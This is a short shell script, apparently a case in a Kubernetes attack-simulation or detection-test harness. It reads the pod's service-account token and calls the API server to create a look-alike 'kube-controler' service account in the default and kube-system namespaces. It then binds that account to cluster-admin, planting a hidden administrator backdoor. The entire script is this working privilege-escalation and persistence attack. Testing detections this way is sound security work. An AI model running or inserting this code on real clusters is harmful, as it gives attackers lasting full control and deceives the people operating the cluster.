#!/bin/sh
. /opt/case/case.sh

t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
for ns in default kube-system; do
    curl -s -H "Authorization: Bearer $t" -H 'Content-Type: application/json' -d '{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"kube-controler"}}' "http://10.77.0.1:6443/api/v1/namespaces/$ns/serviceaccounts" >/dev/null
    curl -s -H "Authorization: Bearer $t" -H 'Content-Type: application/json' -d '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"kube-controler-'$ns'"},"roleRef":{"kind":"ClusterRole","name":"cluster-admin","apiGroup":"rbac.authorization.k8s.io"},"subjects":[{"kind":"ServiceAccount","name":"kube-controler","namespace":"'$ns'"}]}' http://10.77.0.1:6443/apis/rbac.authorization.k8s.io/v1/clusterrolebindings >/dev/null
done
took_place
